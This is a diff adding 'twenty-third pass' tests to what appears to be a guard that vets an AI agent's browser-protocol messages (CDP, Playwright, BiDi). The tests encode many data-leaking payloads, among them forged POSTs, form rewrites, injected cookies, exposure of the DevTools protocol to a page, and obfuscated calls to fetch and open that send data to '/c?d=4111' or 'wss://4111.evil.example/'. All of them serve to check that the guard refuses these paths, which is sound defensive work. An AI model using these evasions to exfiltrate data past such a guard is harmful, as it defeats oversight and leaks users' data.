@@ -584,6 +584,80 @@ t.test('code that sends a write is judged as a write: to a host taking only read
   t.ok(a.records.some((r) => (r.extra as { tunnel?: { protocol?: string } } | undefined)?.tunnel?.protocol === 'cdp' && r.method === 'POST' && r.url === 'https://docs.example/api/notes'), 'audited as the POST it is');
 });
 
+// A paused request continued to a URL with a method or body of the agent's (twenty-third pass):
+// `Fetch.continueRequest {url, method: 'POST', postData}` was judged as the GET of the URL, and the
+// browser posted the agent's body to a host that takes only reads. Now a write, as code's is.
+t.test('twenty-third pass: a paused request continued to a URL with a write method or a body of the agent\'s is judged as a write', async (t) => {
+  const body = Buffer.from('notes=4111').toString('base64');
+  for (const msg of [
+    JSON.stringify(cdp('Fetch.continueRequest', { requestId: 'r1', url: 'https://docs.example/api/notes', method: 'POST', postData: body })),
+    JSON.stringify(cdp('Fetch.continueRequest', { requestId: 'r1', url: 'https://docs.example/api/notes', postData: body })),
+    JSON.stringify(cdp('Network.continueInterceptedRequest', { interceptionId: 'i1', url: 'https://docs.example/api/notes', method: 'put', postData: 'notes=4111' })),
+    pw('route@77aa', 'continue', { url: 'https://docs.example/api/notes', method: 'POST', postData: body, isFallback: false }),
+    pw('route@77aa', 'fallback', { url: 'https://docs.example/api/notes', method: 'DELETE' }),
+    JSON.stringify({ id: 1, method: 'network.continueRequest', params: { request: 'r1', url: 'https://docs.example/api/notes', method: 'POST', body: { type: 'string', value: 'notes=4111' } } }),
+  ]) {
+    t.same(cdpLoadsOf(msg), { urls: [], writes: ['https://docs.example/api/notes'] }, msg.slice(0, 120));
+  }
+  t.equal((await session([JSON.stringify(cdp('Fetch.continueRequest', { requestId: 'r1', url: 'https://docs.example/api/notes', method: 'POST', postData: body }))], [], 'browser.example')).code, 1008, 'through the socket');
+  t.notOk(ranText().includes(body), 'nothing reached the browser');
+  // Controls: a URL rewritten with a read, and a read method written out.
+  t.same(cdpLoadsOf(JSON.stringify(cdp('Fetch.continueRequest', { requestId: 'r1', url: 'https://docs.example/a.png' }))), { urls: ['https://docs.example/a.png'] });
+  t.same(cdpLoadsOf(pw('route@77aa', 'continue', { url: 'https://docs.example/a.png', method: 'GET' })), { urls: ['https://docs.example/a.png'] });
+});
+
+// A form made to post (twenty-third pass): markup with `<form method=post action=…>` (or a
+// button's `formmethod`) was judged as the GET of its action, and a submission the tunnel does not
+// read as a load (the Enter key, a click) posted the fields the agent wrote; `method` set to `post`
+// on the page's own form, by an attribute or by code, posted where the page says; a request of the
+// page's was sent again by `Network.replayXHR`.
+t.test('twenty-third pass: a form made to post is judged as a write, or closes the socket where its action is the page\'s', async (t) => {
+  const writes = [
+    cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<form method="post" action="https://docs.example/api/notes"><input name=d value=4111><button>go</button></form>' }),
+    cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<form action="https://docs.example/api/notes"><input name=d value=4111><button formmethod=POST>go</button></form>' }),
+    cdp('Page.setDocumentContent', { frameId: 'F1', html: '<form method=put action=//docs.example/api/notes enctype=text/plain><textarea name=d>4111</textarea></form>' }),
+    cdp('DOM.setAttributesAsText', { nodeId: 7, text: 'method="post" action="https://docs.example/api/notes"' }),
+    JSON.parse(pw('frame@3c1f0d6a8f', 'setContent', { html: '<form method=post action="https://docs.example/api/notes"><input name=d value=4111></form>' })),
+  ];
+  for (const msg of writes) t.ok(cdpLoadsOf(JSON.stringify(msg)).writes?.includes('https://docs.example/api/notes'), JSON.stringify(msg).slice(0, 120));
+  const closes = [
+    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'method', value: 'post' }),
+    cdp('DOM.setAttributeValue', { nodeId: 9, name: 'FormMethod', value: 'post' }),
+    cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<form method=post><input name=d value=4111></form>' }),
+    cdp('Runtime.evaluate', { expression: "document.forms[0].setAttribute('method', 'post')" }),
+    cdp('Runtime.evaluate', { expression: "document.querySelector('button').formMethod = 'post'" }),
+    cdp('Network.replayXHR', { requestId: '1000.12' }),
+  ];
+  for (const msg of closes) t.ok(cdpLoadsOf(JSON.stringify(msg)).refused, JSON.stringify(msg).slice(0, 120));
+  t.equal((await session([JSON.stringify(writes[0])], [], 'browser.example')).code, 1008, 'through the socket: a write to a host taking only reads');
+  t.equal((await session([JSON.stringify(closes[0])], [], 'browser.example')).code, 1008, 'through the socket: the page\'s form');
+  t.notOk(ranText().includes('4111') || ranText().includes('"method","value":"post"'), 'nothing reached the browser');
+  // Controls: a form that reads (GET, the default), a `method` of a read, text about a method.
+  for (const msg of [
+    cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<form action="https://docs.example/search"><input name=q></form>' }),
+    cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<form method=get action="https://docs.example/search"><input name=q></form>' }),
+    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'method', value: 'get' }),
+    cdp('DOM.setAttributeValue', { nodeId: 7, name: 'data-method', value: 'post' }),
+  ]) {
+    const r = cdpLoadsOf(JSON.stringify(msg));
+    t.ok(!r.refused && !r.writes, `goes on as a read: ${JSON.stringify(msg).slice(0, 120)}`);
+  }
+});
+
+// The protocol itself handed to a page's own code (twenty-third pass): after
+// `Target.exposeDevToolsProtocol`, the page (an attacker's, reached by a served link) calls
+// `window.cdp.send('Page.navigate', …)` or reads every target's cookies from inside the browser,
+// where nothing passes the tunnel. It went on.
+t.test('twenty-third pass: handing a page the DevTools protocol closes the socket', async (t) => {
+  for (const msg of [
+    cdp('Target.exposeDevToolsProtocol', { targetId: 'T1', bindingName: 'cdp', inheritPermissions: true }),
+    cdp('Target.sendMessageToTarget', { sessionId: 'S1', message: JSON.stringify(cdp('Target.exposeDevToolsProtocol', { targetId: 'T2' })) }),
+    JSON.parse(pw('cdp-session@1', 'send', { method: 'Target.exposeDevToolsProtocol', params: { targetId: 'T1' } })),
+  ]) t.match(cdpLoadsOf(JSON.stringify(msg)).refused ?? '', /DevTools protocol/, JSON.stringify(msg).slice(0, 120));
+  t.equal((await session([JSON.stringify(cdp('Target.exposeDevToolsProtocol', { targetId: 'T1' }))], [], 'browser.example')).code, 1008, 'through the socket');
+  t.notOk(ranText().includes('exposeDevToolsProtocol'), 'nothing reached the browser');
+});
+
 t.test('control: code that reads (a GET written out, text saying post or delete) goes on', async (t) => {
   const msgs = [
     JSON.stringify(cdp('Runtime.evaluate', { expression: "fetch('https://docs.example/api/search?q=post', { method: 'GET' }).then((r) => r.json())" })),
@@ -674,6 +748,13 @@ const relativePlacements: Record<string, (rel: string) => string> = {
   'Fetch.fulfillRequest Location': (r) => JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 302, responseHeaders: [{ name: 'Location', value: r }] })),
   'Fetch.fulfillRequest Link preload': (r) => JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Link', value: `<https://docs.example/a.css>; rel=preload; as=style, <${r}>; rel=prefetch` }] })),
   'Fetch.fulfillRequest Refresh': (r) => JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Refresh', value: `0; url=${r}` }] })),
+  // Twenty-third pass: what an answer's headers have the browser fetch or post reports to.
+  'Fetch.fulfillRequest Speculation-Rules': (r) => JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Speculation-Rules', value: `"https://docs.example/rules.json", "${r}"` }] })),
+  'Fetch.fulfillRequest Reporting-Endpoints': (r) => JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Reporting-Endpoints', value: `main="https://docs.example/r", csp="${r}"` }] })),
+  'Fetch.continueResponse Report-To': (r) => JSON.stringify(cdp('Fetch.continueResponse', { requestId: 'r1', responseHeaders: [{ name: 'Report-To', value: JSON.stringify({ group: 'g', max_age: 60, endpoints: [{ url: r }] }) }, { name: 'NEL', value: '{"report_to":"g","max_age":60}' }] })),
+  'Fetch.fulfillRequest CSP report-uri': (r) => JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, binaryResponseHeaders: Buffer.from(`Content-Security-Policy\u0000img-src 'none'; report-uri ${r}`).toString('base64') })),
+  'Playwright fulfill CSP report-only': (r) => pw('route@77aa', 'fulfill', { status: 200, headers: [{ name: 'Content-Security-Policy-Report-Only', value: `default-src 'self'; report-uri https://docs.example/r ${r}` }], body: 'ok' }),
+  'BiDi provideResponse Speculation-Rules': (r) => JSON.stringify({ id: 1, method: 'network.provideResponse', params: { request: 'r1', statusCode: 200, headers: [{ name: 'Speculation-Rules', value: { type: 'string', value: `"${r}"` } }] } }),
   'BiDi provideResponse': (r) => JSON.stringify({ id: 1, method: 'network.provideResponse', params: { request: 'r1', statusCode: 200, body: { type: 'string', value: `<img src="${r}">` } } }),
   'Playwright setContent': (r) => pw('frame@3c1f0d6a8f', 'setContent', { html: `<img src="${r}">`, waitUntil: 'load' }),
   'Playwright fulfill style sheet': (r) => pw('route@77aa', 'fulfill', { status: 200, headers: [{ name: 'content-type', value: 'text/css' }], body: `body { background: url(${r}) }` }),
@@ -697,6 +778,30 @@ t.test('twenty-second pass: a URL relative to the page in markup, an attribute, 
       t.ok(!r.refused && r.urls.every((u) => new URL(u).hostname === 'docs.example'), `goes on: ${where} with ${ok} (${JSON.stringify(r)})`);
     }
   }
+});
+
+// A cookie in an answer made up for an intercepted request (twenty-third pass): the browser stores
+// it for the paused request's site, which is not known here (a served link's, the attacker's), and
+// sends it with every later request there; a cookie command was judged as its site's whole, this
+// went on. Each protocol's made-up answer and header placement closes the socket.
+t.test('twenty-third pass: a made-up answer that sets a cookie is refused', async (t) => {
+  const cookie = 'd=4111; Path=/; Max-Age=600';
+  for (const msg of [
+    JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Set-Cookie', value: cookie }], body: Buffer.from('ok').toString('base64') })),
+    JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 204, binaryResponseHeaders: Buffer.from(`set-cookie\u0000${cookie}`).toString('base64') })),
+    JSON.stringify(cdp('Fetch.continueResponse', { requestId: 'r1', responseHeaders: [{ name: ' Set-Cookie', value: cookie }] })),
+    JSON.stringify(cdp('Network.continueInterceptedRequest', { interceptionId: 'i1', rawResponse: Buffer.from(`HTTP/1.1 200 OK\r\nSet-Cookie: ${cookie}\r\n\r\nok`).toString('base64') })),
+    pw('route@77aa', 'fulfill', { status: 200, headers: [{ name: 'set-cookie', value: cookie }], body: 'ok' }),
+    JSON.stringify({ id: 1, method: 'network.provideResponse', params: { request: 'r1', statusCode: 200, headers: [{ name: 'Set-Cookie', value: { type: 'string', value: cookie } }] } }),
+    JSON.stringify({ id: 1, method: 'network.provideResponse', params: { request: 'r1', statusCode: 200, cookies: [{ name: 'd', value: { type: 'string', value: '4111' } }] } }),
+    JSON.stringify({ id: 1, method: 'network.continueResponse', params: { request: 'r1', headers: [{ name: 'Set-Cookie', value: { type: 'string', value: cookie } }] } }),
+    JSON.stringify({ id: 1, method: 'network.continueResponse', params: { request: 'r1', cookies: [{ name: 'd', value: { type: 'string', value: '4111' }, path: '/' }] } }),
+  ]) t.match(cdpLoadsOf(msg).refused ?? '', /cookie/, msg.slice(0, 100));
+  t.ok(cdpLoadsOf(JSON.stringify({ id: 1, method: 'network.continueResponse', params: { request: 'r1', headers: [{ name: 'Location', value: { type: 'string', value: '/c?d=4111' } }] } })).refused, 'a continued response\'s relative Location too');
+  t.equal((await session([JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Set-Cookie', value: cookie }] }))], [], 'browser.example')).code, 1008, 'through the socket');
+  t.notOk(ranText().includes('4111'), 'nothing reached the browser');
+  // Control: a made-up answer with no cookie, an empty one.
+  t.notOk(cdpLoadsOf(JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Content-Type', value: 'application/json' }, { name: 'Set-Cookie', value: '' }], body: Buffer.from('{"ok":true}').toString('base64') }))).refused);
 });
 
 // CSS's escapes (twenty-second pass): `url(\68ttps\3a\2f\2f evil\2e example\2f c?d=…)`,
@@ -908,6 +1013,123 @@ t.test('twenty-second pass (follow-up): a load through a construct the reader do
       const r = cdpLoadsOf(JSON.stringify(msg));
       t.notOk(r.refused, `Playwright's script of ${src.length} characters goes on (${r.refused})`);
     }
+  }
+});
+
+// Puppeteer's own traffic (twenty-third pass; the twenty-second checked Playwright's only): its
+// injected script (`setInterval(async()=>…)`: a minified function written out was no function),
+// every `$eval`/`$$eval` (its `//# sourceURL=pptr:$eval;…` line read as `eval` named outside a
+// call) and `addPageBinding` behind `exposeFunction` and ARIA queries (`globalThis[prefix + name]`
+// with the names given as arguments) were refused: Puppeteer could not be used through Airlock.
+// Recorded from a real Chromium (test/attacks/fixtures/browsers/README.md); each message goes on.
+t.test('twenty-third pass: Puppeteer\'s own traffic, recorded from a real Chromium, goes on', async (t) => {
+  const lines = readFileSync(new URL('./fixtures/browsers/puppeteer-25.19.0.jsonl', import.meta.url), 'utf8').split('\n').filter(Boolean);
+  t.ok(lines.length > 200 && lines.some((l) => l.includes('addPageBinding')) && lines.some((l) => l.includes('pptr:$eval')) && lines.some((l) => l.includes('createFunction') || l.includes('W.set(t,e)')), `the recording holds what was refused (${lines.length} messages)`);
+  for (const l of lines) {
+    const r = cdpLoadsOf(l);
+    if (r.refused || r.writes || r.urls.some((u) => u !== 'http://127.0.0.1:46213/')) t.fail(`refused or read as a load: ${l.slice(0, 160)} (${JSON.stringify(r).slice(0, 200)})`);
+  }
+  // The same readings keep what they refused: the names given are read as written there.
+  const cf = (fn: string, args: unknown[]): string => JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: fn, objectId: '1', arguments: args }));
+  // Each form with the names that load or run code when written out there.
+  const forms: Record<string, [(k: string) => string, string[]]> = {
+    'callFunctionOn, called': [(k) => cf('function (name, u) { return globalThis[name](u) }', [{ value: k }, { value: '/c?d=4111' }]), ['fetch', 'open', 'fetchLater']],
+    'callFunctionOn, held': [(k) => cf('(prefix, name) => { const f = self[prefix + name]; return f }', [{ value: '' }, { value: k }]), ['fetch', 'eval', 'Function', 'WebSocket', 'open', 'setTimeout']],
+    'callFunctionOn, set': [(k) => cf('function (name, u) { window[name] = u }', [{ value: k }, { value: '/c?d=4111' }]), ['location']],
+    'callFunctionOn, assigned again': [(k) => cf('function (name, u) { name = name.slice(1); globalThis[name](u) }', [{ value: `x${k}` }, { value: '/c?d=4111' }]), ['fetch', 'open']],
+    'callFunctionOn, destructured again': [(k) => cf('function (name, u) { [name] = [atob(u.split("#")[1])]; globalThis[name](u) }', [{ value: 'myHelper' }, { value: `/c?d=4111#${btoa(k)}` }]), ['fetch', 'open']],
+    'callFunctionOn, through arguments': [(k) => cf('function (name, u) { arguments[0] = atob(u.split("#")[1]); globalThis[name](u) }', [{ value: 'myHelper' }, { value: `/c?d=4111#${btoa(k)}` }]), ['fetch', 'open']],
+    'callFunctionOn, an inner parameter after a default': [(k) => cf('function (name, u) { const g = (x = Date.now(), name) => globalThis[name]; return g(0, atob(u.split("#")[1]))(u) }', [{ value: 'myHelper' }, { value: `/c?d=4111#${btoa(k)}` }]), ['fetch', 'open']],
+    'callFunctionOn, an inner parameter': [(k) => cf('function (name, u) { const g = (name) => globalThis[name]; return g(atob(u)) }', [{ value: 'myHelper' }, { value: btoa(k) }]), ['fetch']],
+    'BiDi callFunction': [(k) => JSON.stringify({ id: 1, method: 'script.callFunction', params: { functionDeclaration: '(name, u) => globalThis[name](u)', awaitPromise: false, target: { context: 'C1' }, arguments: [{ type: 'string', value: k }, { type: 'string', value: '/c?d=4111' }] } }), ['fetch', 'open']],
+    'called at once': [(k) => JSON.stringify(cdp('Runtime.evaluate', { expression: `(function f(name, u) { return globalThis[name](u) })(${JSON.stringify(k)}, "/c?d=4111")\n//# sourceURL=pptr:evaluate` })), ['fetch', 'open']],
+    'Object.assign onto the global': [(k) => cf('(name, u) => Object.assign(globalThis, { [name]: u })', [{ value: k }, { value: '/c?d=4111' }]), ['location', 'src']],
+  };
+  for (const [where, [make, sinks]] of Object.entries(forms)) for (const k of sinks) t.ok(cdpLoadsOf(make(k)).refused, `${where} with ${k}: refused`);
+  t.notOk(cdpLoadsOf(forms['callFunctionOn, held']![0]('myHelper')).refused, 'control: a page\'s own function got by the name given');
+  t.notOk(cdpLoadsOf(forms['called at once']![0]('myHelper')).refused, 'control: called at once with it');
+  // A tool's naming line ends the text; one inside a template is code's.
+  t.ok(cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: 'const s = `\n//# sourceURL=x`; fetch("/c?d=4111")' }))).refused, 'a naming line inside a template hides nothing');
+});
+
+// `open` and the timers held under another name, and the global object under another name with a
+// member named at run time (twenty-third pass: `const f = window.open; f('/c?d=…')`,
+// `const w = window; w['fe' + 'tch'](…)` went on; `fetch` so held was refused, `open` was not).
+t.test('twenty-third pass: window.open and the timers held under another name, and a member of the global named at run time through another name of it, are refused', async (t) => {
+  const held: Array<(u: string) => string> = [
+    (u) => `const f = window.open; f(${u})`, (u) => `const f = open; f(${u})`, (u) => `const { open: f } = window; f(${u})`,
+    (u) => `[window.open][0](${u})`, (u) => `const o = self.open, g = 1; o(${u})`, (u) => `const f = document.open; f(${u}, '', '')`,
+    (u) => `function g() { return open }\ng()(${u})`, (u) => `const t = setTimeout; t('location = ' + ${u})`, (u) => `const { setInterval: t } = globalThis; t('fetch(' + ${u} + ')')`,
+    (u) => `const w = window; w['fe' + 'tch'](${u})`, (u) => `let g = self; g[k](${u})`, (u) => `const v = document.defaultView; v[atob('b3Blbg==')](${u})`, (u) => `w = globalThis; w[name] = ${u}`,
+  ];
+  fc.assert(fc.property(fc.constantFrom(...held.keys()), fc.constantFrom("'/c?d=4111'", 'u', '`/c?d=${d}`', "'https://docs.example/a'"), fc.constantFrom('Runtime.evaluate', 'Page.addScriptToEvaluateOnNewDocument'), (i, u, method) => {
+    const code = held[i]!(u);
+    return !!cdpLoadsOf(JSON.stringify(cdp(method, method === 'Runtime.evaluate' ? { expression: code } : { source: code }))).refused;
+  }), { numRuns: FUZZ_RUNS * 10, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) });
+  t.equal((await session([JSON.stringify(cdp('Runtime.evaluate', { expression: held[0]!("'/c?d=4111'") }))], [], 'browser.example')).code, 1008, 'through the socket');
+  t.notOk(ranText().includes('/c?d=4111'), 'nothing reached the browser');
+  for (const ok of ['if (open) menu.close()', 'dialog.open = true; const m = { open: 1 }', "if (details.open && !parent.open) toggle()", 'const w = window; w.scrollTo(0, 0); w.items[i] = 1', 'setTimeout(() => done(), 10)']) {
+    t.notOk(cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: ok }))).refused, `goes on: ${ok}`);
+  }
+});
+
+// A function given objects an earlier command got (twenty-third pass, left open by the twenty-second:
+// a sink got under another name in one command and called by the next): `Runtime.evaluate` of
+// `window` or `Runtime.getProperties` hands out the objectId of `fetch` or `open`, and
+// `callFunctionOn` calls it as `this` or an argument; or it is given a URL attribute's name and
+// sets it (`el[k] = u`, `el.setAttribute(k, u)` with `k` `'src'`). Each went on.
+t.test('twenty-third pass: a function that calls an object an earlier command got, or sets an attribute named by an argument, is refused', async (t) => {
+  const obj = { objectId: '-4821.3.17' };
+  const cf = (fn: string, args: unknown[], self = true): string => JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: fn, ...(self ? { objectId: '-4821.3.9' } : { executionContextId: 3 }), arguments: args }));
+  const bidiCall = (fn: string, args: unknown[]): string => JSON.stringify({ id: 1, method: 'script.callFunction', params: { functionDeclaration: fn, awaitPromise: false, target: { context: 'C1' }, this: { handle: 'h-9' }, arguments: args } });
+  const refused = [
+    cf('function (u) { return this(u) }', [{ value: '/c?d=4111' }]),
+    cf('function (u) { return this.call(null, u) }', [{ value: '/c?d=4111' }]),
+    cf('(f, u) => f(u)', [obj, { value: '/c?d=4111' }], false),
+    cf('async function (f, u) { await f.apply(null, [u]) }', [obj, { value: '/c?d=4111' }], false),
+    cf('(F, u) => new F(u)', [obj, { value: 'wss://4111.evil.example/' }], false),
+    cf('(f, u) => Reflect.apply(f, null, [u])', [obj, { value: '/c?d=4111' }], false),
+    cf('function (u) { const f = this; return f(u) }', [{ value: '/c?d=4111' }]),
+    cf('(g, u) => { let h; h = g; const f = h; f.call(0, u) }', [obj, { value: '/c?d=4111' }], false),
+    cf('function () { window.sink = this }', []),
+    cf('(f) => { globalThis["s"] = f }', [obj], false),
+    cf('function (k, u) { this[k] = u }', [{ value: 'src' }, { value: '/c?d=4111' }]),
+    cf('(el, k, u) => { el[k] = u }', [obj, { value: 'href' }, { value: '/c?d=4111' }], false),
+    cf('function (k, u) { this.setAttribute(k, u) }', [{ value: 'SRC' }, { value: '/c?d=4111' }]),
+    cf('(el, k, u) => el.setAttributeNS(null, k, u)', [obj, { value: 'onerror' }, { value: 'fetch(1)' }], false),
+    bidiCall('function (u) { this(u) }', [{ type: 'string', value: '/c?d=4111' }]),
+    bidiCall('(f, u) => f(u)', [{ sharedId: 's-1' }, { type: 'string', value: '/c?d=4111' }]),
+  ];
+  for (const msg of refused) t.ok(cdpLoadsOf(msg).refused, msg.slice(0, 140));
+  t.equal((await session([refused[0]!], [], 'browser.example')).code, 1008, 'through the socket');
+  t.notOk(ranText().includes('this(u)'), 'nothing reached the browser');
+  // Controls: an element's own methods and properties, attributes that load nothing, reads.
+  for (const msg of [
+    cf('function () { this.click() }', []),
+    cf('(el, v) => { el.value = v; el.dispatchEvent(new Event("input")) }', [obj, { value: 'hello' }], false),
+    cf('(el, k) => el.getAttribute(k)', [obj, { value: 'href' }], false),
+    cf('(el, k, v) => el.setAttribute(k, v)', [obj, { value: 'aria-label' }, { value: 'Search' }], false),
+    cf('(el, k) => el[k]', [obj, { value: 'src' }], false),
+    cf('(utilityScript, ...args) => utilityScript.evaluate(...args)', [obj, { value: true }, { value: '() => document.title' }], false),
+    bidiCall('function () { return this.textContent }', []),
+  ]) t.notOk(cdpLoadsOf(msg).refused, `goes on: ${msg.slice(0, 140)}`);
+});
+
+// An `Object.assign` whose object has a key computed at run time (twenty-third pass:
+// `Object.assign(img, {[k]: '/c?d=…'})` with `k` `'src'` went on; only keys written out were read).
+t.test('twenty-third pass: Object.assign of a computed key is refused, in every spelling', async (t) => {
+  fc.assert(fc.property(
+    fc.constantFrom('img', 'document.images[0]', 'window', 'location', 'document.querySelector("a")'),
+    fc.constantFrom('[k]', "['sr' + 'c']", '[`src`]', '[names[0]]', '[atob("c3Jj")]'),
+    fc.constantFrom("'/c?d=4111'", 'u', '"https://docs.example/a.png"'),
+    fc.constantFrom((o: string) => o, (o: string) => `{ alt: 'x', ${o.slice(1)}`, (o: string) => `${o.slice(0, -1)}, title: 't' }`),
+    (target, key, value, wrap) => {
+      const code = `Object.assign(${target}, ${wrap(`{ ${key}: ${value} }`)})`;
+      return !!cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: code }))).refused;
+    },
+  ), { numRuns: FUZZ_RUNS * 10, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) });
+  for (const ok of ['Object.assign({}, { [k]: 1 })', "Object.assign(el.style, { color: 'red' })", 'Object.assign(state, { f(...args) { return args } })']) {
+    t.notOk(cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: ok }))).refused, `goes on: ${ok}`);
   }
 });
 
